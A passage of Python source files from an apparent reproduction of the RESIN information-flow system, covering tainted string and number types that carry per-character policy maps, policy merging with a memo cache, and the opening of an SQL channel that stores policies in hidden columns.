        if base_op is None:  # pragma: no cover - defensive
            return NotImplemented
        result = base_op(self, other)
        if (
            result is NotImplemented
            and isinstance(self, int)
            and isinstance(other, float)
            and float_op is not None
        ):
            # Mixed int/float arithmetic: fall back to float semantics so the
            # policy still propagates (int.__add__ alone would defer to
            # float.__radd__ and drop the taint).
            result = float_op(float(self), other)
        return self._rewrap(result, other)

    op.__name__ = name
    return op


def _unary(name):
    int_op = getattr(int, name, None)
    float_op = getattr(float, name, None)

    def op(self):
        base_op = int_op if isinstance(self, int) else float_op
        result = base_op(self)
        return self._rewrap(result)

    op.__name__ = name
    return op


_BINARY_METHODS = [
    "__add__",
    "__radd__",
    "__sub__",
    "__rsub__",
    "__mul__",
    "__rmul__",
    "__truediv__",
    "__rtruediv__",
    "__floordiv__",
    "__rfloordiv__",
    "__mod__",
    "__rmod__",
    "__pow__",
    "__rpow__",
    "__and__",
    "__rand__",
    "__or__",
    "__ror__",
    "__xor__",
    "__rxor__",
    "__lshift__",
    "__rlshift__",
    "__rshift__",
    "__rrshift__",
    "__divmod__",
    "__rdivmod__",
]

_UNARY_METHODS = ["__neg__", "__pos__", "__abs__", "__invert__"]


class TaintedInt(_TaintedNumberMixin, int):
    """An integer carrying a policy set."""

    def __new__(cls, value: int = 0, policies: Optional[PolicySet] = None):
        self = super().__new__(cls, value)
        self._policyset = as_policyset(policies)
        return self

    def _raw(self) -> int:
        return int(self)

    def __repr__(self) -> str:
        return int.__repr__(self)

    def __hash__(self) -> int:
        return int.__hash__(self)

    def __reduce__(self):
        return (int, (int(self),))


class TaintedFloat(_TaintedNumberMixin, float):
    """A float carrying a policy set."""

    def __new__(cls, value: float = 0.0, policies: Optional[PolicySet] = None):
        self = super().__new__(cls, value)
        self._policyset = as_policyset(policies)
        return self

    def _raw(self) -> float:
        return float(self)

    def __repr__(self) -> str:
        return float.__repr__(self)

    def __hash__(self) -> int:
        return float.__hash__(self)

    def __reduce__(self):
        return (float, (float(self),))


for _name in _BINARY_METHODS:
    if hasattr(int, _name):
        setattr(TaintedInt, _name, _binary(_name))
    if hasattr(float, _name):
        setattr(TaintedFloat, _name, _binary(_name))

for _name in _UNARY_METHODS:
    if hasattr(int, _name):
        setattr(TaintedInt, _name, _unary(_name))
    if hasattr(float, _name) and _name != "__invert__":
        setattr(TaintedFloat, _name, _unary(_name))
