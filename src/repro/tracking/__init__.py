"""Data tracking: tainted value types and character-range policy maps."""

from .merge import clear_merge_cache, merge_cache_info, merge_many, merge_policysets
from .propagation import (
    concat,
    interpolate,
    merge_values,
    policies_of,
    spread_policies,
    stringify,
    strip_policies,
    to_tainted_str,
)
from .ranges import PolicyRange, RangeMap
from .tainted_bytes import TaintedBytes, taint_bytes
from .tainted_number import TaintedFloat, TaintedInt, taint_float, taint_int
from .tainted_str import TaintedStr, taint_str

__all__ = [
    "PolicyRange",
    "RangeMap",
    "TaintedStr",
    "TaintedBytes",
    "TaintedInt",
    "TaintedFloat",
    "taint_str",
    "taint_bytes",
    "taint_int",
    "taint_float",
    "merge_policysets",
    "merge_many",
    "merge_cache_info",
    "clear_merge_cache",
    "policies_of",
    "to_tainted_str",
    "stringify",
    "concat",
    "interpolate",
    "merge_values",
    "spread_policies",
    "strip_policies",
]
