"""Character-level policy tracking for strings.

The paper's prototypes attach a policy-set pointer to the interpreter's
internal string representation and patch every opcode and C library routine
that copies characters.  We cannot patch CPython, so — following the paper's
own suggestion in Section 8 — :class:`TaintedStr` subclasses :class:`str` and
overrides every operation that produces a new string, re-computing the
character-range policy map (:class:`~repro.tracking.ranges.RangeMap`) of the
result.

Semantics (Section 3.4):

* concatenation keeps each operand's policies on its own characters;
* slicing keeps exactly the policies of the selected characters;
* interpolation (``format`` / ``%``) keeps the policies of interpolated
  values on the interpolated characters only;
* transformations whose per-character mapping is unknown fall back to
  spreading the union of all operand policies over the whole result (the
  conservative choice).

``TaintedStr`` compares and hashes exactly like the underlying ``str`` —
policies never affect program logic, only boundary checks.

Hot-path note: concatenation, slicing, and ``join`` build *lazy* range maps
(rope nodes over the operands' maps, see :mod:`repro.tracking.ranges`), so a
render loop that assembles a page out of thousands of pieces pays for policy
bookkeeping only when something finally inspects the result — typically once,
at the channel boundary.
"""

from __future__ import annotations

import re
import string as _string_module
from typing import Iterable, Iterator, List, Optional

from ..core.policy import Policy
from ..core.policyset import PolicySet, as_policyset
from .ranges import PolicyRange, RangeMap

__all__ = ["TaintedStr", "taint_str", "rangemap_of", "policies_of_str"]


_PERCENT_SPEC = re.compile(
    r"%(?:\((?P<name>[^)]*)\))?"  # optional mapping key
    r"[-+ #0]*"  # flags
    r"(?:\*|\d+)?"  # width
    r"(?:\.(?:\*|\d+))?"  # precision
    r"[hlL]?"  # length (ignored)
    r"(?P<conv>[diouxXeEfFgGcrsa%])"
)


def rangemap_of(value) -> RangeMap:
    """Return the policy range map of ``value`` (empty for plain strings)."""
    if isinstance(value, TaintedStr):
        return value.rangemap
    if isinstance(value, str):
        return RangeMap.empty(len(value))
    raise TypeError(f"expected str, got {type(value).__name__}")


def policies_of_str(value) -> PolicySet:
    """Union of all policies carried by ``value``."""
    if isinstance(value, TaintedStr):
        return value.policies()
    return PolicySet.empty()


def taint_str(
    value: str, policies=None, rangemap: Optional[RangeMap] = None
) -> "TaintedStr":
    """Wrap ``value`` in a :class:`TaintedStr`.

    ``policies`` (a policy, an iterable of policies, or None) is applied to
    every character; alternatively an explicit ``rangemap`` may be given.
    """
    if rangemap is None:
        if isinstance(value, TaintedStr):
            rangemap = value.rangemap
        else:
            rangemap = RangeMap.empty(len(value))
        for policy in as_policyset(policies):
            rangemap = rangemap.add_policy(policy)
    return TaintedStr(value, rangemap)


class TaintedStr(str):
    """A string carrying per-character policy sets."""

    def __new__(cls, value: str = "", rangemap: Optional[RangeMap] = None):
        self = super().__new__(cls, value)
        if rangemap is None:
            if isinstance(value, TaintedStr):
                rangemap = value.rangemap
            else:
                rangemap = RangeMap.empty(len(self))
        if rangemap.length != len(self):
            raise ValueError(
                f"rangemap length {rangemap.length} does not match string "
                f"length {len(self)}"
            )
        self._rangemap = rangemap
        return self

    # -- policy access -------------------------------------------------------

    @property
    def rangemap(self) -> RangeMap:
        return self._rangemap

    def policies(self) -> PolicySet:
        """Union of the policies of every character."""
        return self._rangemap.all_policies()

    def policies_at(self, index: int) -> PolicySet:
        """Policy set of the character at ``index``."""
        return self._rangemap.policies_at(index)

    def has_policy_type(self, policy_type, *, every_char: bool = False) -> bool:
        """True if some character (or every character, with
        ``every_char=True``) carries a policy of ``policy_type``."""
        if every_char:
            return self._rangemap.every_position_has(policy_type)
        return self._rangemap.all_policies().has_type(policy_type)

    def with_policy(
        self, policy: Policy, start: int = 0, stop: Optional[int] = None
    ) -> "TaintedStr":
        """Return a copy with ``policy`` attached to characters
        ``[start, stop)`` (the whole string by default)."""
        return TaintedStr(str(self), self._rangemap.add_policy(policy, start, stop))

    def without_policy(self, policy: Policy) -> "TaintedStr":
        """Return a copy with ``policy`` removed from every character."""
        return TaintedStr(str(self), self._rangemap.remove_policy(policy))

    def without_policy_type(self, policy_type) -> "TaintedStr":
        """Return a copy with every policy of ``policy_type`` removed."""
        return TaintedStr(str(self), self._rangemap.remove_policy_type(policy_type))

    def plain(self) -> str:
        """The underlying plain string (policies dropped)."""
        return str.__str__(self)

    # -- internal helpers ------------------------------------------------------

    def _wrap(self, text: str, rangemap: RangeMap) -> "TaintedStr":
        # Deliberately does not inspect the map: peeking (even is_empty())
        # could force a lazy rope node and defeat O(1) concat/slice.
        return TaintedStr(text, rangemap)

    def _spread(self, text: str, extra: PolicySet = None) -> "TaintedStr":
        policies = self.policies()
        if extra:
            policies = policies.union(extra)
        return TaintedStr(text, RangeMap.uniform(len(text), policies))

    # -- concatenation / repetition -------------------------------------------

    def __add__(self, other):
        if not isinstance(other, str):
            return NotImplemented
        text = str.__add__(self, other)
        return self._wrap(text, self._rangemap.concat(rangemap_of(other)))

    def __radd__(self, other):
        if not isinstance(other, str):
            return NotImplemented
        text = str.__add__(other, self)
        return self._wrap(text, rangemap_of(other).concat(self._rangemap))

    def __mul__(self, count):
        if not isinstance(count, int):
            return NotImplemented
        text = str.__mul__(self, count)
        return self._wrap(text, self._rangemap.repeat(count))

    __rmul__ = __mul__

    # -- indexing / slicing ------------------------------------------------------

    def __getitem__(self, key):
        text = str.__getitem__(self, key)
        if isinstance(key, slice):
            start, stop, step = key.indices(len(self))
            return self._wrap(text, self._rangemap.slice(start, stop, step))
        index = key if key >= 0 else key + len(self)
        pset = self._rangemap.policies_at(index)
        return self._wrap(text, RangeMap.uniform(1, pset))

    def __iter__(self) -> Iterator["TaintedStr"]:
        for index in range(len(self)):
            yield self[index]

    # -- case / whitespace transformations (length-preserving when possible) -----

    def _length_preserving(self, text: str) -> "TaintedStr":
        if len(text) == len(self):
            return self._wrap(text, self._rangemap)
        return self._spread(text)

    def upper(self):
        return self._length_preserving(str.upper(self))

    def lower(self):
        return self._length_preserving(str.lower(self))

    def casefold(self):
        return self._length_preserving(str.casefold(self))

    def swapcase(self):
        return self._length_preserving(str.swapcase(self))

    def title(self):
        return self._length_preserving(str.title(self))

    def capitalize(self):
        return self._length_preserving(str.capitalize(self))

    def expandtabs(self, tabsize: int = 8):
        return self._spread(str.expandtabs(self, tabsize))

    def strip(self, chars=None):
        return self._strip_common(str.strip(self, chars), str.lstrip(self, chars))

    def lstrip(self, chars=None):
        stripped = str.lstrip(self, chars)
        start = len(self) - len(stripped)
        return self._wrap(stripped, self._rangemap.slice(start, len(self)))

    def rstrip(self, chars=None):
        stripped = str.rstrip(self, chars)
        return self._wrap(stripped, self._rangemap.slice(0, len(stripped)))

    def removeprefix(self, prefix):
        if str.startswith(self, prefix):
            return self[len(prefix) :]
        return self[:]

    def removesuffix(self, suffix):
        if suffix and str.endswith(self, suffix):
            return self[: len(self) - len(suffix)]
        return self[:]

    def _strip_common(self, stripped: str, lstripped: str) -> "TaintedStr":
        start = len(self) - len(lstripped)
        return self._wrap(stripped, self._rangemap.slice(start, start + len(stripped)))

    def ljust(self, width, fillchar=" "):
        pad = max(0, width - len(self))
        return self + type(self)(fillchar * pad)

    def rjust(self, width, fillchar=" "):
        pad = max(0, width - len(self))
        return type(self)(fillchar * pad) + self

    def center(self, width, fillchar=" "):
        text = str.center(self, width, fillchar)
        pad = len(text) - len(self)
        if pad <= 0:
            return self[:]
        # Matches CPython: the extra fill character of an odd margin goes to
        # the left when the target width is odd, to the right otherwise.
        left = pad // 2 + (pad & width & 1)
        prefix = RangeMap.empty(left)
        suffix = RangeMap.empty(pad - left)
        return self._wrap(text, prefix.concat(self._rangemap).concat(suffix))

    def zfill(self, width):
        text = str.zfill(self, width)
        pad = len(text) - len(self)
        if pad <= 0:
            return self[:]
        if self and self[0] in "+-":
            # sign stays first; zeros are inserted after it
            rmap = (
                self._rangemap.slice(0, 1)
                .concat(RangeMap.empty(pad))
                .concat(self._rangemap.slice(1, len(self)))
            )
        else:
            rmap = RangeMap.empty(pad).concat(self._rangemap)
        return self._wrap(text, rmap)

    # -- search-and-rebuild operations ---------------------------------------------

    def replace(self, old, new, count: int = -1):
        if old == "":
            # Matches CPython semantics: new is inserted between every char.
            pieces: List[TaintedStr] = []
            limit = count if count >= 0 else len(self) + 1
            new_t = _as_tainted(new)
            for index, char in enumerate(self):
                if index < limit:
                    pieces.append(new_t)
                pieces.append(char)
            if len(self) < limit:
                pieces.append(new_t)
            return _concat_all(pieces)
        result: List[TaintedStr] = []
        remaining = count if count >= 0 else -1
        cursor = 0
        new_t = _as_tainted(new)
        while True:
            if remaining == 0:
                break
            found = str.find(self, old, cursor)
            if found < 0:
                break
            result.append(self[cursor:found])
            result.append(new_t)
            cursor = found + len(old)
            if remaining > 0:
                remaining -= 1
        result.append(self[cursor:])
        return _concat_all(result)

    def split(self, sep=None, maxsplit: int = -1):
        return self._locate_parts(str.split(self, sep, maxsplit))

    def rsplit(self, sep=None, maxsplit: int = -1):
        return self._locate_parts(str.rsplit(self, sep, maxsplit), from_right=True)

    def splitlines(self, keepends: bool = False):
        return self._locate_parts(str.splitlines(self, keepends))

    def partition(self, sep):
        index = str.find(self, sep)
        if index < 0:
            return (self[:], type(self)(""), type(self)(""))
        return (self[:index], self[index : index + len(sep)], self[index + len(sep) :])

    def rpartition(self, sep):
        index = str.rfind(self, sep)
        if index < 0:
            return (type(self)(""), type(self)(""), self[:])
        return (self[:index], self[index : index + len(sep)], self[index + len(sep) :])

    def _locate_parts(
        self, parts: List[str], from_right: bool = False
    ) -> List["TaintedStr"]:
        """Map each plain-string part back to its position in ``self`` and
        return the corresponding tainted slices.  Parts are guaranteed to
        occur in order (both split directions yield in-order parts)."""
        located: List[TaintedStr] = []
        cursor = 0
        for part in parts:
            found = str.find(self, part, cursor) if part else cursor
            if found < 0:  # pragma: no cover - defensive, should not happen
                located.append(self._spread(part))
                continue
            located.append(self[found : found + len(part)])
            cursor = found + len(part)
        return located

    def join(self, iterable):
        items = [_as_tainted(item) for item in iterable]
        if not items:
            return type(self)("")
        pieces: List[TaintedStr] = []
        for index, item in enumerate(items):
            if index:
                pieces.append(self)
            pieces.append(item)
        return _concat_all(pieces)

    # -- interpolation -------------------------------------------------------------

    def format(self, *args, **kwargs):
        formatter = _string_module.Formatter()
        pieces: List[TaintedStr] = []
        auto_index = 0
        for literal, field, spec, conversion in formatter.parse(str(self)):
            if literal:
                pieces.append(self._spread_literal(literal))
            if field is None:
                continue
            if field == "":
                field = str(auto_index)
                auto_index += 1
            obj, _ = formatter.get_field(field, args, kwargs)
            if conversion:
                obj = formatter.convert_field(obj, conversion)
            pieces.append(_format_value(obj, spec or ""))
        return _concat_all(pieces) if pieces else type(self)("")

    def format_map(self, mapping):
        return self.format(**dict(mapping))

    def __mod__(self, args):
        if isinstance(args, dict) and not isinstance(args, tuple):
            return self._percent_interpolate(args, mapping=True)
        if not isinstance(args, tuple):
            args = (args,)
        return self._percent_interpolate(args, mapping=False)

    def _percent_interpolate(self, args, mapping: bool):
        pieces: List[TaintedStr] = []
        cursor = 0
        arg_index = 0
        text = str(self)
        for match in _PERCENT_SPEC.finditer(text):
            literal = self[cursor : match.start()]
            if literal:
                pieces.append(literal)
            conv = match.group("conv")
            if conv == "%":
                pieces.append(TaintedStr("%"))
            else:
                spec = match.group(0)
                if mapping:
                    value = args[match.group("name")]
                    formatted = str.__mod__(
                        spec.replace(f"({match.group('name')})", "", 1), (value,)
                    )
                else:
                    value = args[arg_index]
                    arg_index += 1
                    formatted = str.__mod__(spec, (value,))
                if isinstance(value, str) and conv == "s" and formatted == str(value):
                    pieces.append(_as_tainted(value))
                else:
                    pieces.append(
                        TaintedStr(
                            formatted,
                            RangeMap.uniform(len(formatted), policies_of_value(value)),
                        )
                    )
            cursor = match.end()
        tail = self[cursor:]
        if tail:
            pieces.append(tail)
        return _concat_all(pieces) if pieces else type(self)("")

    def _spread_literal(self, literal: str) -> "TaintedStr":
        # Literal text of a format string carries the template's own policies
        # (usually none): templates are typically programmer-authored.
        return TaintedStr(
            literal, RangeMap.uniform(len(literal), self._rangemap.all_policies())
        )

    # -- conversions -----------------------------------------------------------------

    def encode(self, encoding: str = "utf-8", errors: str = "strict"):
        from .tainted_bytes import TaintedBytes

        raw = str.encode(self, encoding, errors)
        if self._rangemap.is_empty():
            return TaintedBytes(raw)
        ranges = self._rangemap.ranges
        if len(ranges) == 1 and ranges[0].start == 0 and ranges[0].stop == len(self):
            # Fast path: a uniform policy over the whole string maps to a
            # uniform policy over all of its bytes, whatever the encoding.
            return TaintedBytes(raw, RangeMap.uniform(len(raw), ranges[0].policies))
        # Encode per range segment: byte offsets are only needed at segment
        # boundaries, so each policy-free gap and each tainted segment is one
        # chunk — not one chunk per character.
        segments = []
        byte_start = 0
        cursor = 0
        text = str.__str__(self)
        for rng in ranges:
            if rng.start > cursor:
                gap = str.encode(text[cursor : rng.start], encoding, errors)
                byte_start += len(gap)
            seg_len = len(str.encode(text[rng.start : rng.stop], encoding, errors))
            segments.append(PolicyRange(byte_start, byte_start + seg_len, rng.policies))
            byte_start += seg_len
            cursor = rng.stop
        return TaintedBytes(raw, RangeMap(len(raw), segments))

    def __format__(self, spec):
        # Formatting through f-strings loses policies (the interpreter joins
        # the pieces as plain str).  The text stays correct, but a non-empty
        # policy set is being discarded — fail loudly: a ResinWarning for
        # the developer, and a ``policy_dropped`` audit event when a
        # recorder is active so the drop is forensically visible.
        result = str.__format__(self, spec)
        if not self._rangemap.is_empty():
            _report_policy_drop(self, spec)
        return result

    def __repr__(self):
        return str.__repr__(self)

    def __reduce__(self):
        # Pickling keeps the text but intentionally drops the policy map:
        # persistence of policies is the job of the storage filters.
        return (str, (str(self),))


def _report_policy_drop(value: "TaintedStr", spec: str) -> None:
    """Make a ``__format__`` policy drop loud: warn, and audit if enabled.

    Best-effort by design — reporting must never change the formatting
    result or raise into the caller.
    """
    import warnings

    from ..core.exceptions import ResinWarning
    from ..core.request_context import current_request

    try:
        from ..audit.recorder import recorder_for

        rctx = current_request()
        recorder = recorder_for(getattr(rctx, "env", None))
        if recorder is not None:
            recorder.record(
                "policy_dropped",
                verdict="allow",
                policies=value.policies(),
                rangemap=value._rangemap,
                detail={"op": "format", "spec": spec},
            )
    except Exception:
        pass
    warnings.warn(
        ResinWarning(
            "formatting a TaintedStr discards its policies (the interpreter "
            "joins f-string pieces as plain str); concatenate with + or "
            "taint the formatted result to keep them"
        ),
        stacklevel=3,
    )


def policies_of_value(value) -> PolicySet:
    """Best-effort policy set of an arbitrary Python value."""
    from .tainted_number import TaintedFloat, TaintedInt
    from .tainted_bytes import TaintedBytes

    if isinstance(value, TaintedStr):
        return value.policies()
    if isinstance(value, TaintedBytes):
        return value.policies()
    if isinstance(value, (TaintedInt, TaintedFloat)):
        return value.policies()
    return PolicySet.empty()


def _as_tainted(value) -> TaintedStr:
    if isinstance(value, TaintedStr):
        return value
    if isinstance(value, str):
        return TaintedStr(value)
    raise TypeError(f"expected str, got {type(value).__name__}")


def _concat_all(pieces: Iterable[TaintedStr]) -> TaintedStr:
    pieces = list(pieces)
    text = "".join(str(p) for p in pieces)
    return TaintedStr(text, RangeMap.concat_many(rangemap_of(p) for p in pieces))


def _format_value(obj, spec: str) -> TaintedStr:
    if isinstance(obj, str):
        # The policies are re-applied to the result below, so nothing is
        # dropped on this path — bypass TaintedStr.__format__ and its
        # policy-drop reporting.
        formatted = str.__format__(obj, spec)
    else:
        formatted = format(obj, spec)
    if isinstance(obj, str) and formatted == str(obj):
        return _as_tainted(obj)
    return TaintedStr(
        formatted, RangeMap.uniform(len(formatted), policies_of_value(obj))
    )
