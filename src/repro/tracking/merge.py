"""Policy merging.

Character-level tracking avoids most merges, but some operations combine data
elements in ways that cannot be attributed to individual characters — integer
addition, hashing, checksums (Section 3.4.2).  For those, RESIN invokes each
policy's ``merge`` method, passing the other operand's entire policy set, and
labels the result with the union of everything the merge methods return.

Because policy sets are hash-consed (:mod:`repro.core.policyset`), a merge is
a pure function of two *interned* operands, which enables three hot-path
shortcuts, applied in order:

1. **Same-set fast path** — ``merge(s, s)`` of a set whose members all use
   the stock merge protocol is ``s`` itself: every ``"union"`` policy keeps
   itself, and every ``"intersect"`` policy finds its own class on the other
   side.  No per-policy calls happen at all.
2. **Empty-operand fast path** — merging with the empty set returns the
   other operand verbatim when that operand's profile is pure-``"union"``
   (an ``"intersect"`` policy would be dropped, so it takes the slow path).
3. **Memo cache** — results for hot ``(left, right)`` interned pairs are
   kept in a bounded LRU table.  Policies whose ``merge`` is impure opt out
   with ``merge_cacheable = False``; a :class:`~repro.core.exceptions.
   MergeError` veto is never cached (it re-raises deterministically anyway).
"""

from __future__ import annotations

import threading
from collections import OrderedDict
from typing import Iterable, Tuple

from ..core.policy import Policy
from ..core.policyset import PolicySet, as_policyset

#: Upper bound on memoized ``(left, right)`` merge results.  The cache keys
#: hold strong references to the interned operands, so the bound also bounds
#: how many hot sets the cache pins in memory.
MERGE_CACHE_SIZE = 1024

_merge_cache: "OrderedDict[Tuple[PolicySet, PolicySet], PolicySet]" = OrderedDict()
_merge_cache_lock = threading.Lock()
_merge_cache_hits = 0
_merge_cache_misses = 0


def merge_policysets(left, right) -> PolicySet:
    """Merge two policy sets according to the RESIN protocol.

    For every policy ``p`` of each operand, call ``p.merge(other_operand)``;
    the result is the union of all returned policies.  A policy may raise
    :class:`~repro.core.exceptions.MergeError` to veto the merge entirely.

    Interned-set fast paths and a bounded memo cache (see the module
    docstring) make repeated merges of the same provenance O(1) without
    changing any verdict.
    """
    left = as_policyset(left)
    right = as_policyset(right)
    if not left and not right:
        return PolicySet.empty()

    if left is right:
        if left.merge_profile() != "custom":
            return left
    elif not left:
        if right.merge_profile() == "union":
            return right
    elif not right:
        if left.merge_profile() == "union":
            return left

    if left.merge_cacheable() and right.merge_cacheable():
        global _merge_cache_hits, _merge_cache_misses
        key = (left, right)
        with _merge_cache_lock:
            cached = _merge_cache.get(key)
            if cached is not None:
                _merge_cache.move_to_end(key)
                _merge_cache_hits += 1
                return cached
            _merge_cache_misses += 1
        result = _merge_uncached(left, right)
        with _merge_cache_lock:
            _merge_cache[key] = result
            _merge_cache.move_to_end(key)
            while len(_merge_cache) > MERGE_CACHE_SIZE:
                _merge_cache.popitem(last=False)
        return result

    return _merge_uncached(left, right)


def _merge_uncached(left: PolicySet, right: PolicySet) -> PolicySet:
    """The full per-policy merge protocol, no shortcuts."""
    result: PolicySet = PolicySet.empty()
    for policy in left:
        result = result.union(_as_policies(policy.merge(right)))
    for policy in right:
        result = result.union(_as_policies(policy.merge(left)))
    return result


def merge_many(policysets: Iterable) -> PolicySet:
    """Fold :func:`merge_policysets` over several operands.

    Streams through the operands without materializing them, so a fold over
    ``n`` operands sharing interned provenance costs ``n`` fast-path (or
    memo-hit) merges instead of ``n`` fresh set constructions.
    """
    result = None
    for pset in policysets:
        pset = as_policyset(pset)
        result = pset if result is None else merge_policysets(result, pset)
    return PolicySet.empty() if result is None else result


def merge_cache_info() -> dict:
    """Hits/misses/size of the merge memo cache (for tests and benchmarks)."""
    with _merge_cache_lock:
        return {
            "hits": _merge_cache_hits,
            "misses": _merge_cache_misses,
            "size": len(_merge_cache),
            "maxsize": MERGE_CACHE_SIZE,
        }


def clear_merge_cache() -> None:
    """Drop every memoized merge result (and reset the hit/miss counters)."""
    global _merge_cache_hits, _merge_cache_misses
    with _merge_cache_lock:
        _merge_cache.clear()
        _merge_cache_hits = 0
        _merge_cache_misses = 0


def _as_policies(value) -> Iterable[Policy]:
    if value is None:
        return ()
    if isinstance(value, Policy):
        return (value,)
    return tuple(value)
