"""Policy merging.

Character-level tracking avoids most merges, but some operations combine data
elements in ways that cannot be attributed to individual characters — integer
addition, hashing, checksums (Section 3.4.2).  For those, RESIN invokes each
policy's ``merge`` method, passing the other operand's entire policy set, and
labels the result with the union of everything the merge methods return.
"""

from __future__ import annotations

from typing import Iterable

from ..core.policy import Policy
from ..core.policyset import PolicySet, as_policyset


def merge_policysets(left, right) -> PolicySet:
    """Merge two policy sets according to the RESIN protocol.

    For every policy ``p`` of each operand, call ``p.merge(other_operand)``;
    the result is the union of all returned policies.  A policy may raise
    :class:`~repro.core.exceptions.MergeError` to veto the merge entirely.
    """
    left = as_policyset(left)
    right = as_policyset(right)
    if not left and not right:
        return PolicySet.empty()

    result: PolicySet = PolicySet.empty()
    for policy in left:
        result = result.union(_as_policies(policy.merge(right)))
    for policy in right:
        result = result.union(_as_policies(policy.merge(left)))
    return result


def merge_many(policysets: Iterable) -> PolicySet:
    """Fold :func:`merge_policysets` over several operands."""
    sets = [as_policyset(p) for p in policysets]
    if not sets:
        return PolicySet.empty()
    result = sets[0]
    for other in sets[1:]:
        result = merge_policysets(result, other)
    return result


def _as_policies(value) -> Iterable[Policy]:
    if value is None:
        return ()
    if isinstance(value, Policy):
        return (value,)
    return tuple(value)
