"""SQL channel: policy persistence across the database.

The paper attaches a default filter object to the function that issues SQL
queries, and uses it to rewrite queries and results (Figure 4):

* ``CREATE TABLE`` gains one extra ``__policy_<col>`` column per data column;
* writes (``INSERT`` / ``UPDATE``) store the serialized policies of each cell
  value into the corresponding policy column;
* reads (``SELECT``) also fetch the policy columns and re-attach the
  de-serialized policies to each cell of the result.

``Database`` below is the application-facing handle.  Queries are issued as
(possibly tainted) SQL text; the query text itself flows through the
channel's filter chain as a guarded function call, which is where an
application-supplied SQL-injection filter interposes (Section 5.3).
"""

from __future__ import annotations
import contextlib
import json
from typing import Any, List, Optional
from ..core.context import FilterContext
from ..core.filter import Filter, FilterChain
from ..core.registry import resolve_registry
from ..core.request_context import current_request
from ..core.serialization import (deserialize_policyset, deserialize_rangemap,
                                  serialize_policyset, serialize_rangemap)
from ..sql import nodes
from ..sql.engine import Engine, Result, Row
from ..sql.parser import parse
from ..tracking.propagation import policies_of
from ..tracking.tainted_number import TaintedFloat, TaintedInt
from ..tracking.tainted_str import TaintedStr

#: Prefix of the hidden policy columns.
POLICY_COLUMN_PREFIX = "__policy_"


def policy_column(column: str) -> str:
    return POLICY_COLUMN_PREFIX + column


def is_policy_column(column: str) -> bool:
    return column.startswith(POLICY_COLUMN_PREFIX)


def serialize_cell_policies(value: Any) -> Optional[str]:
    """Serialize the policies of one cell value to a JSON string, or ``None``
    if the value carries no policy."""
    if isinstance(value, TaintedStr):
        if value.rangemap.is_empty():
            return None
        return json.dumps({"kind": "rangemap",
                           "map": _rangemap_record(value.rangemap)})
    if isinstance(value, (TaintedInt, TaintedFloat)):
        policies = value.policies()
        if not policies:
            return None
        return json.dumps({"kind": "policyset",
                           "policies": serialize_policyset(policies)})
    policies = policies_of(value)
    if not policies:
        return None
    return json.dumps({"kind": "policyset",
                       "policies": serialize_policyset(policies)})


def apply_cell_policies(value: Any, serialized: Optional[str], *,
                        tolerant: bool = False) -> Any:
    """Re-attach the policies stored in ``serialized`` to ``value``.

    ``tolerant=True`` (set on databases recovered by a tolerant durability
    open) loads policies whose class is unknown as deny-by-default
    :class:`~repro.core.serialization.UnknownPolicy` placeholders instead of
    raising, so one stale record cannot make a whole table unreadable."""
    if not serialized or value is None:
        return value
    record = json.loads(serialized)
    if record.get("kind") == "rangemap" and isinstance(value, str):
        rangemap = deserialize_rangemap(record["map"], tolerant=tolerant)
        if rangemap.length != len(value):
            rangemap = rangemap.spread(len(value)).with_length(len(value))
        return TaintedStr(str(value), rangemap)
    policies = deserialize_policyset(record.get("policies", []),
                                     tolerant=tolerant)
    if isinstance(value, str):
        result = TaintedStr(str(value))
        for policy in policies:
            result = result.with_policy(policy)
        return result
    if isinstance(value, int) and not isinstance(value, bool):
        return TaintedInt(value, policies)
    if isinstance(value, float):
        return TaintedFloat(value, policies)
    return value


def _rangemap_record(rangemap) -> dict:
    return serialize_rangemap(rangemap)


class Database:
    """A RESIN-aware database connection."""

    def __init__(self, engine: Optional[Engine] = None,
                 persist_policies: bool = True,
                 context: Optional[dict] = None, *,
                 registry=None, env=None):
        self.engine = engine if engine is not None else Engine()
        self.env = env
        ctx = FilterContext(type="sql")
        # Carried as an attribute (never printed in violation messages):
        # lets request-scoped helpers ignore requests bound for other
        # environments.
        ctx.env = env
        if context:
            ctx.update(context)
        self.registry = resolve_registry(registry, env)
        default = self.registry.make_default_filter("sql", ctx)
        self.filter = FilterChain([default], ctx)
        self.context = ctx
        self.persist_policies = persist_policies
        #: When True (set by a tolerant durability open), unknown policy
        #: classes in stored policy columns load as deny-by-default
        #: ``UnknownPolicy`` placeholders instead of failing the read.
        self.tolerant_policies = False

    # -- filter management ---------------------------------------------------------

    def add_filter(self, flt: Filter) -> None:
        """Stack an application filter (e.g. a SQL-injection assertion) on
        the query path.

        While a :class:`~repro.core.request_context.RequestContext` for this
        database's environment is active, the filter joins that request's
        *overlay*: it guards queries only for the duration of the request and
        pops automatically when the request ends.  Outside a request — or on
        a database the bound request's environment does not own — the filter
        joins the base chain and guards every query for the life of the
        connection (the pre-request-context behaviour — use this for
        deployment-time assertions).
        """
        rctx = self._request()
        if rctx is not None:
            rctx.add_db_filter(self, flt)
            return
        flt.context = self.context
        self.filter.append(flt)

    def _request(self):
        """The RequestContext owning this database, if one is bound.

        The environment check keeps requests from capturing (and then
        silently dropping) filters destined for some *other* environment's
        database."""
        rctx = current_request()
        if (rctx is not None and self.env is not None
                and rctx.env is self.env):
            return rctx
        return None

    def _effective_chain(self) -> FilterChain:
        """The base chain plus the current request's overlay (if any)."""
        rctx = self._request()
        overlay = rctx.db_filters(self) if rctx is not None else ()
        if not overlay:
            return self.filter
        return FilterChain(list(self.filter.filters) + list(overlay),
                           self.context)

    # -- query API -----------------------------------------------------------------------

    def query(self, sql) -> Result:
        """Issue one SQL statement.

        The raw query text is passed through the channel's filter chain (the
        base filters, then the current request's overlay filters) as a
        guarded function call before it is parsed and executed, so stacked
        filters see exactly what the application sent (including the
        character-level policies of any interpolated user input).
        """
        return self._effective_chain().filter_func(self._execute, (sql,), {})

    def execute_unchecked(self, sql) -> Result:
        """Execute a statement bypassing stacked filters (still persisting
        policies).  Intended for schema setup in tests and installers."""
        return self._execute(sql)

    def transaction(self, *tables: str):
        """Hold the locks of ``tables`` across a compound operation.

        Use this for application-level read-modify-write sequences that span
        several queries (check then update, move a row between tables, …):
        the named tables stay consistent for the whole block while queries
        against *other* tables proceed concurrently.  The locks are acquired
        in deterministic (sorted-name) order — the engine's lock-ordering
        rule — so overlapping transactions never deadlock.  Name every
        table the block touches: a query inside the block against a table
        that sorts before the held set would break the ordering, and the
        engine raises ``SQLError`` rather than risk a deadlock::

            with db.transaction("accounts", "audit_log"):
                balance = db.query("SELECT ... FROM accounts ...").scalar()
                db.query(f"UPDATE accounts SET ...")
